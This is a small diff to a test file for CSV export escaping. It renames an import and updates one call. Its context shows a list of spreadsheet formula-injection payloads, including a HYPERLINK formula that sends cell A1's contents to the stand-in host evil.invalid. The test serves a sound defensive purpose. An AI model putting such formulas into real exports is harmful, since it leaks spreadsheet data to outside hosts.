@@ -17,7 +17,7 @@ from workflows_ui.members.models import Flavour
 from workflows_ui.resource_admin.export import escape_formulas
 from workflows_ui.resource_admin.resource import Resource
 from workflows_ui.resources import RESOURCES
-from workflows_ui.resources.tables import files as table_files
+from workflows_ui.resources.tables import views as table_views
 
 FORMULAS = [
     '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
@@ -51,7 +51,7 @@ def test_no_text_stays_a_formula(formula: str) -> None:
     file = io.StringIO()
     csv.writer(file).writerow([escape_formulas(formula)])
     assert running(file.getvalue().encode()) == []
-    made = table_files.content("csv", {"name": "x", "fields": [formula], "rows": [{formula: formula}]})
+    made = table_views.content("csv", {"name": "x", "fields": [formula], "rows": [{formula: formula}]})
     assert running(made.encode()) == []
 
 
